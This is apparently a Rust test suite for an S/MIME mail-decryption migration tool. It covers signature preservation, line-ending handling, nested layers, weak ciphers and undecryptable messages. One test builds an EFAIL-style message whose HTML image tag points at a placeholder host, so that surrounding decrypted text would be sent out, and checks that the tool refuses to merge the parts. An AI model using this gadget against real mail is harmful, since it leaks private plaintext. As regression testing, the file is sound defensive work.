//! Rows C-01, C-02, F-05, F-11 and F-18 to F-20: which layers of a message are taken off, and what stays as it was.

use mailseal::crypto::content_cipher::CipherAlgorithm::{
    Aes256Cbc, Aes256Gcm, DesCbc, TripleDesCbc,
};
use mailseal::crypto::digest::sha256;
use mailseal::facts::axis::{Digest, Integrity, LayerKind, Signature};
use mailseal::facts::finding::Finding;
use mailseal::facts::staged::Release;
use mailseal::facts::{Scratch, Settings, collect};
use mailseal::jobs::migrate::message::{Kept, Migrated, Options, migrate};
use mailseal::limits::Limits;
use mailseal::mime::message::{Form, Message, Origin, Quoting};

use crate::catalogue::a_axes::{content, from_alice};
use crate::catalogue::migrated::{
    KEYS, bare, clear_signed, codes, decrypted, decrypted_as, encrypted, encrypted_with, facts,
    facts_with_keys, for_stranger, kept, kept_as, mail_of, opaque_signed, partial, stored, text,
    with_keys,
};
use crate::toolkit::cms::{BER, Sign, Signed, signed_by};
use crate::toolkit::enveloped::{Encrypt, To, compressed};
use crate::toolkit::mail::{self};
use crate::toolkit::people::{self, alice, bob, carol};

#[test]
fn f_05_inner_signatures_stay_and_verify() {
    let entity = content();
    for signed in [
        clear_signed(&entity, alice()),
        opaque_signed(&entity, alice()),
    ] {
        for cipher in [Aes256Cbc, Aes256Gcm] {
            for message in stored(&encrypted_with(&signed, cipher)) {
                let before = facts_with_keys(&message);
                let read = decrypted(&message);
                let after = facts(&read.bytes);
                assert_eq!(after.content_sha256, before.content_sha256);
                assert_eq!(after.layers.len(), 1);
                let (before, after) = (
                    &before.layers[1].signatures[0],
                    &after.layers[0].signatures[0],
                );
                assert_eq!(
                    (after.signature, after.certificate),
                    (Signature::Valid, before.certificate)
                );
                assert!(matches!(
                    after.digest,
                    Digest::Match | Digest::MatchCanonical
                ));
                let expected = if cipher == Aes256Cbc {
                    Integrity::InnerSignature
                } else {
                    Integrity::Aead
                };
                assert_eq!(read.integrity, expected);
                // The signed part is there byte by byte but for line ends.
                let body = mail::lf(&read.bytes[read.body_at..]);
                let inner = mail::lf(&signed);
                assert!(inner.ends_with(&body) && !body.is_empty());
            }
        }
    }
    // Taken off on demand, if it verifies, and what was found is told.
    let unwrap = Options {
        unwrap_signed: true,
        ..bare()
    };
    for signed in [
        clear_signed(&entity, alice()),
        opaque_signed(&entity, alice()),
    ] {
        let read = decrypted_as(&stored(&encrypted(&signed))[1], &unwrap);
        assert!(read.bytes.ends_with(&entity), "{}", text(&read));
        assert_eq!(read.layers.len(), 2);
        assert_eq!(read.layers[1].signatures[0].signature, Signature::Valid);
        assert_eq!(facts(&read.bytes).layers, []);
        assert_eq!(codes(&read), []);
    }
    let broken = mail::multipart_signed(&entity, &signed_by(alice(), b"other", people::sent()));
    let read = decrypted_as(&stored(&encrypted(&broken))[1], &unwrap);
    assert_eq!((read.layers.len(), facts(&read.bytes).layers.len()), (1, 1));
}

#[test]
fn f_05_a_signature_over_the_ciphertext_goes_with_it() {
    for signed in [
        clear_signed(&encrypted(&content()), alice()),
        opaque_signed(&encrypted(&content()), alice()),
    ] {
        for message in stored(&signed) {
            let read = decrypted(&message);
            let kinds: Vec<_> = read.layers.iter().map(|layer| layer.kind).collect();
            assert_eq!(kinds[1], LayerKind::Encrypted);
            assert_eq!(codes(&read), [Finding::OuterSignatureRemoved]);
            assert_eq!(read.layers[0].signatures[0].signature, Signature::Valid);
            assert!(read.provenance.contains("layer="), "{}", read.provenance);
            assert_eq!(facts(&read.bytes).layers, []);
            assert!(mail::lf(&read.bytes).ends_with(b"\n\nDear all,\nthe meeting is on Friday.\n"));
        }
    }
    // Triple wrapping (RFC 2634 §1.1): the inner signature is the one that is over something readable.
    let triple = clear_signed(&encrypted(&clear_signed(&content(), bob())), alice());
    let read = decrypted(&stored(&triple)[0]);
    assert_eq!(codes(&read), [Finding::OuterSignatureRemoved]);
    let after = facts(&read.bytes);
    assert_eq!(
        (after.layers.len(), after.layers[0].signatures[0].signature),
        (1, Signature::Valid)
    );
    assert_eq!(
        after.layers[0].signatures[0].certificate,
        Some(bob().sha256())
    );
}

#[test]
fn f_11_line_ends_become_the_store_s_where_that_loses_nothing() {
    let binary = b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\n\r\n\x00\r\n\r\xff\n";
    let mixed = b"Content-Type: text/plain\r\n\r\none\r\ntwo\nthree\r\n";
    let bare_cr = b"Content-Type: text/plain\r\n\r\none\rtwo\r\n";
    let unix = b"Content-Type: text/plain\n\none\ntwo\n";
    for (entity, body, lf_kept, crlf_kept) in [
        (
            content(),
            &b"Dear all,\r\nthe meeting is on Friday.\r\n"[..],
            false,
            false,
        ),
        (binary.to_vec(), b"\x00\r\n\r\xff\n", true, true),
        (mixed.to_vec(), b"one\r\ntwo\nthree\r\n", true, true),
        (bare_cr.to_vec(), b"one\rtwo\r\n", true, false),
        (unix.to_vec(), b"one\ntwo\n", false, false),
    ] {
        for (message, kept) in stored(&encrypted(&entity)).iter().zip([lf_kept, crlf_kept]) {
            let lf = !message.contains(&b'\r');
            let read = decrypted(message);
            let expected = match (kept, lf) {
                (true, _) => body.to_vec(),
                (false, true) => mail::lf(body),
                (false, false) if body.contains(&b'\r') && kept == lf => body.to_vec(),
                (false, false) => mail::crlf(body),
            };
            assert_eq!(
                read.bytes[read.body_at..],
                expected,
                "{}",
                String::from_utf8_lossy(body)
            );
            let expected = if kept {
                vec![Finding::LineEndsKept]
            } else {
                vec![]
            };
            assert_eq!(codes(&read), expected);
            let header = &read.bytes[..read.body_at];
            assert_eq!(header.contains(&b'\r'), !lf);
        }
    }
}

/// A signature over binary content or over lines that end in LF only verifies in no other form.
#[test]
fn f_11_signed_content_keeps_the_form_that_was_signed() {
    let odd = b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\n\r\na\r\nb\nc\rd\n".to_vec();
    let unix = b"Content-Type: text/plain\n\none\ntwo\n".to_vec();
    for entity in [odd, unix] {
        for message in stored(&encrypted(&clear_signed(&entity, alice()))) {
            let before = facts_with_keys(&message);
            let read = decrypted(&message);
            let after = facts(&read.bytes);
            assert_eq!(
                after.layers[0].signatures[0].signature,
                before.layers[1].signatures[0].signature
            );
            let matches = |digest| digest != Digest::Mismatch;
            assert_eq!(
                matches(after.layers[0].signatures[0].digest),
                matches(before.layers[1].signatures[0].digest)
            );
            assert!(matches(after.layers[0].signatures[0].digest));
            assert_eq!(after.content_sha256, before.content_sha256);
            assert_eq!(codes(&read), [Finding::LineEndsKept]);
        }
    }
}

#[test]
fn f_18_nested_layers_go_as_a_whole() {
    let twice = encrypted(&encrypted_with(&content(), Aes256Gcm));
    let read = decrypted(&stored(&twice)[0]);
    assert_eq!(read.layers.len(), 2);
    assert_eq!(read.integrity, Integrity::None, "the weakest");
    assert_eq!(read.entity_sha256, sha256(&content()));
    assert!(
        read.provenance.contains("cipher=aes-256-cbc")
            && read
                .provenance
                .contains("layer=auth_encrypted; cipher=aes-256-gcm")
    );

    let squeeze = |entity: &[u8]| mail::pkcs7_mime("compressed-data", &compressed(entity, BER));
    let squeezed = squeeze(&content());
    for entity in [
        encrypted(&squeezed),
        squeeze(&encrypted(&content())),
        encrypted(&squeeze(&encrypted(&content()))),
    ] {
        let read = decrypted_as(&stored(&entity)[1], &bare());
        assert!(read.bytes.ends_with(&content()), "{}", text(&read));
    }
    // Compressed and not encrypted is nothing to decrypt; under a signature that stays it must stay.
    assert_eq!(kept(&stored(&squeezed)[1]), Kept::NotEncrypted);
    let read = decrypted(&stored(&encrypted(&clear_signed(&squeezed, alice())))[1]);
    assert_eq!(read.layers.len(), 1);
    assert_eq!(facts(&read.bytes).layers.len(), 2);

    // What is inside can't be opened: nothing is taken off.
    for message in stored(&encrypted(&for_stranger(&content()))) {
        for options in [Options::default(), partial()] {
            assert_eq!(kept_as(&message, &options), Kept::NoKey);
        }
    }
    let signed = clear_signed(&for_stranger(&content()), alice());
    assert_eq!(kept(&stored(&encrypted(&signed))[0]), Kept::NoKey);
}

/// The manifest says how well a layer was hidden (rows C-18, C-19).
#[test]
fn f_18_weak_and_broken_ciphers_are_told_with_their_bits() {
    for (cipher, code) in [
        (Aes256Cbc, None),
        (TripleDesCbc, Some(Finding::CipherWeak)),
        (DesCbc, Some(Finding::CipherBroken)),
    ] {
        let message = mail::message(&from_alice(), &encrypted_with(&content(), cipher));
        let read = decrypted(&message);
        let key_bits = read.layers[0].encrypted.as_ref().unwrap().key_bits;
        let facts = facts_with_keys(&message);
        assert!(key_bits.is_some_and(|bits| bits >= 56), "{key_bits:?}");
        assert_eq!(
            key_bits,
            facts.layers[0].encrypted.as_ref().unwrap().key_bits
        );
        assert_eq!(codes(&read), Vec::from_iter(code), "{cipher:?}");
    }
}

#[test]
fn f_19_integrity_is_asked_for_on_demand() {
    let strict = Options {
        release: Release::RequireIntegrity,
        ..Options::default()
    };
    let plain = &stored(&encrypted(&content()))[1];
    assert_eq!(kept_as(plain, &strict), Kept::NoIntegrity);
    assert_eq!(decrypted(plain).integrity, Integrity::None);
    for entity in [
        encrypted_with(&content(), Aes256Gcm),
        encrypted(&clear_signed(&content(), alice())),
    ] {
        assert_ne!(
            decrypted_as(&stored(&entity)[1], &strict).integrity,
            Integrity::None
        );
    }
}

#[test]
fn f_20_what_can_t_be_decrypted_is_copied_with_its_reason() {
    assert_eq!(kept(&stored(&for_stranger(&content()))[0]), Kept::NoKey);
    let cms = Encrypt::new(&content(), Aes256Cbc)
        .to(To::new(carol()))
        .encode();
    let cut = mail::pkcs7_mime("enveloped-data", &cms[..cms.len() - 40]);
    assert_eq!(kept(&stored(&cut)[0]), Kept::Damaged);
    let gcm = Encrypt::new(&content(), Aes256Gcm)
        .to(To::new(carol()))
        .flip_bit(9)
        .encode();
    assert_eq!(
        kept(&stored(&mail::pkcs7_mime("authenveloped-data", &gcm))[0]),
        Kept::DecryptFailed
    );
    for plain in [content(), clear_signed(&content(), alice())] {
        assert_eq!(kept(&stored(&plain)[0]), Kept::NotEncrypted);
    }
    for word in Kept::ALL {
        assert!(
            word.as_str()
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b == b'_')
        );
    }
}

#[test]
fn c_01_parts_around_an_encrypted_part_are_left_alone() {
    let html = |text: &str| mail::entity("text/html", text.as_bytes());
    let efail = mail::multipart(
        "mixed",
        "efail",
        &[
            &html("<img src=\"http://efail.example/"),
            &encrypted(&content()),
            &html("\">"),
        ],
    );
    for message in stored(&efail) {
        assert_eq!(kept(&message), Kept::EncryptedSubpart);
        // On demand the part is replaced, in its place and with nothing else changed.
        let read = decrypted_as(&message, &partial());
        let expected = mail::message(
            &from_alice(),
            &mail::multipart(
                "mixed",
                "efail",
                &[
                    &html("<img src=\"http://efail.example/"),
                    &content(),
                    &html("\">"),
                ],
            ),
        );
        let lf = !message.contains(&b'\r');
        assert_eq!(
            text(&read),
            String::from_utf8_lossy(&if lf { mail::lf(&expected) } else { expected })
        );
        assert_eq!(read.layers.len(), 1);
        assert_eq!(read.entity_sha256, sha256(&content()));
    }
    // Text outside the parts, and a message inside, are beside it too.
    let framed = mail::multipart_as(
        "multipart/mixed; boundary=x",
        "x",
        "",
        &[&encrypted(&content())],
        "footer\r\n",
    );
    assert_eq!(kept(&stored(&framed)[1]), Kept::EncryptedSubpart);
    let inner = mail::message(&from_alice(), &encrypted(&content()));
    let forwarded = mail::multipart("mixed", "f", &[&content(), &mail::forwarded(&inner)]);
    assert_eq!(kept(&stored(&forwarded)[1]), Kept::EncryptedSubpart);
    let read = decrypted_as(&stored(&forwarded)[1], &partial());
    assert!(text(&read).contains("Subject: Meeting\r\n") && facts(&read.bytes).layers.is_empty());
    // So is a part behind the signature that is around it.
    let part = encrypted(&content());
    let signature = mail::signature_part(&signed_by(alice(), &part, people::sent()));
    let kind =
        "multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=s";
    let extra = mail::multipart_as(kind, "s", "", &[&part, &signature, &content()], "");
    for options in [Options::default(), partial()] {
        assert_eq!(
            kept_as(&stored(&extra)[1], &options),
            Kept::EncryptedSubpart
        );
    }
    // What stands behind the CMS structure is not carried over, and is told.
    let cms = Encrypt::new(&content(), Aes256Cbc)
        .to(To::new(carol()))
        .encode();
    let behind = mail::pkcs7_mime("enveloped-data", &[&cms[..], b"and more"].concat());
    let read = decrypted(&stored(&behind)[1]);
    assert_eq!(codes(&read), [Finding::TrailingData]);
    // A multipart around it and nothing else is only a wrapper.
    let wrapped = mail::multipart("mixed", "w", &[&encrypted(&content())]);
    assert!(
        decrypted_as(&stored(&wrapped)[1], &bare())
            .bytes
            .ends_with(&content())
    );
}

#[test]
fn c_02_several_encrypted_parts() {
    let second = mail::text("second\n");
    let both = mail::multipart(
        "mixed",
        "b",
        &[
            &encrypted(&content()),
            &encrypted(&second),
            &for_stranger(&second),
        ],
    );
    let message = &stored(&both)[1];
    assert_eq!(kept(message), Kept::EncryptedSubpart);
    let read = decrypted_as(message, &partial());
    assert_eq!(read.layers.len(), 2);
    assert_eq!(
        read.layers
            .iter()
            .map(|one| one.path.as_str())
            .collect::<Vec<_>>(),
        ["1", "2"]
    );
    assert_eq!(codes(&read), [Finding::EncryptedSubpart]);
    assert_eq!(facts(&read.bytes).layers.len(), 1);
    // Inside an encrypted entity the same holds.
    let inside = encrypted(&mail::multipart(
        "mixed",
        "i",
        &[&second, &encrypted(&content())],
    ));
    let message = &stored(&inside)[1];
    assert_eq!(kept(message), Kept::EncryptedSubpart);
    let read = decrypted_as(message, &partial());
    assert!(
        text(&read).contains("the meeting is on Friday") && facts(&read.bytes).layers.is_empty()
    );
    assert_eq!(read.layers.len(), 2);
    // A line of the plaintext that would end the multipart around it.
    let trap = mail::text("one\n--b--\ntwo\n");
    let both = mail::multipart("mixed", "b", &[&content(), &encrypted(&trap)]);
    assert_eq!(
        kept_as(&stored(&both)[1], &partial()),
        Kept::BoundaryCollision
    );
    // None can be opened: what is missing is a key.
    let none = mail::multipart("mixed", "n", &[&content(), &for_stranger(&second)]);
    for options in [Options::default(), partial()] {
        assert_eq!(kept_as(&stored(&none)[1], &options), Kept::NoKey);
    }
    // A signature over the multipart would not verify any more.
    let signed = clear_signed(
        &mail::multipart("mixed", "s", &[&content(), &encrypted(&second)]),
        alice(),
    );
    assert_eq!(
        kept_as(&stored(&signed)[1], &partial()),
        Kept::EncryptedSubpart
    );
}

/// Parts beside the one replaced come out without the quoting of their mbox, or the message stays.
#[test]
fn c_02_quoting_of_the_parts_beside_is_undone() {
    let beside = mail::text("x\n>From here\n>>From there\n");
    let message = mail::lf(&mail::message(
        &from_alice(),
        &mail::multipart("mixed", "q", &[&beside, &encrypted(&content())]),
    ));
    let quoted = |quoting| {
        let message = Message {
            origin: Origin {
                quoting,
                ..Origin::default()
            },
            ..mail_of(&message)
        };
        match with_keys(&message, &partial(), &KEYS) {
            Migrated::Decrypted(read) => Ok(text(&read)),
            Migrated::Copied(kept) => Err(kept),
        }
    };
    assert!(
        quoted(Quoting::None)
            .unwrap()
            .contains("x\n>From here\n>>From there\n")
    );
    assert!(
        quoted(Quoting::Mboxrd)
            .unwrap()
            .contains("x\nFrom here\n>From there\n")
    );
    for lossy in [Quoting::Mboxo, Quoting::Ambiguous] {
        assert_eq!(quoted(lossy), Err(Kept::EncryptedSubpart));
    }
}

#[test]
fn f_02_a_cms_file_gives_its_entity() {
    let cms = Encrypt::new(&content(), Aes256Cbc)
        .to(To::new(carol()))
        .encode();
    let pem = [
        b"-----BEGIN PKCS7-----\r\n".to_vec(),
        mail::base64_lines(&cms, 64),
        b"-----END PKCS7-----\r\n".to_vec(),
    ]
    .concat();
    for file in [&cms, &pem] {
        let message = Message {
            form: Form::Cms,
            ..mail_of(file)
        };
        let Migrated::Decrypted(read) = with_keys(&message, &Options::default(), &KEYS) else {
            panic!("copied");
        };
        assert_eq!(read.bytes.as_slice(), content());
        assert_eq!(read.cms_sha256, sha256(&cms));
        assert_eq!(
            &read.bytes[read.body_at..],
            b"Dear all,\r\nthe meeting is on Friday.\r\n"
        );
    }
    // A SignedData without MIME around it, as some gateways encrypt it, gets some.
    let signed = Signed::opaque(&content())
        .signer(Sign::by(alice()))
        .encode();
    let read = decrypted(&stored(&encrypted(&signed))[0]);
    let after = facts(&read.bytes);
    assert_eq!(
        (after.layers.len(), after.layers[0].signatures[0].signature),
        (1, Signature::Valid)
    );
    assert!(text(&read).contains("smime-type=signed-data"));
}

/// A signature over lines that end in LF, as old Unix programs made them: the message is read back, and stays as it was decrypted.
#[test]
fn f_12_what_would_not_verify_is_not_written_so() {
    let unix = mail::lf(&content());
    let signed = mail::lf(&mail::multipart_signed(
        &unix,
        &signed_by(alice(), &unix, people::sent()),
    ));
    for (message, kept) in stored(&encrypted(&signed)).iter().zip([false, true]) {
        let before = facts_with_keys(message);
        assert_eq!(before.layers[1].signatures[0].digest, Digest::Match);
        let read = decrypted(message);
        let after = facts(&read.bytes);
        assert_eq!(after.layers[0].signatures[0].digest, Digest::Match);
        assert_eq!(after.content_sha256, before.content_sha256);
        let body = signed.windows(2).position(|w| w == b"\n\n").unwrap() + 2;
        assert_eq!(read.bytes[read.body_at..], signed[body..]);
        let expected = if kept {
            vec![Finding::LineEndsKept]
        } else {
            vec![]
        };
        assert_eq!(codes(&read), expected);
    }
    // A header that is over the limit with what is added would be read as something else.
    let message = &stored(&encrypted(&content()))[0];
    let header = message.windows(2).position(|w| w == b"\n\n").unwrap() + 1;
    for (more, expected) in [(8, Some(Kept::ReadBackDiffers)), (1000, None)] {
        let settings = Settings {
            limits: Limits {
                header_bytes: header + more,
                ..Limits::default()
            },
            ..Settings::default()
        };
        let mut scratch = Scratch::default();
        let source = mail_of(message);
        let collected = collect(&source, &KEYS, &settings, &mut scratch);
        let options = Options::default();
        let result = migrate(&source, collected, &options, &settings.limits, &mut scratch);
        let kept = match result {
            Migrated::Copied(kept) => Some(kept),
            Migrated::Decrypted(_) => None,
        };
        assert_eq!(kept, expected);
    }
}
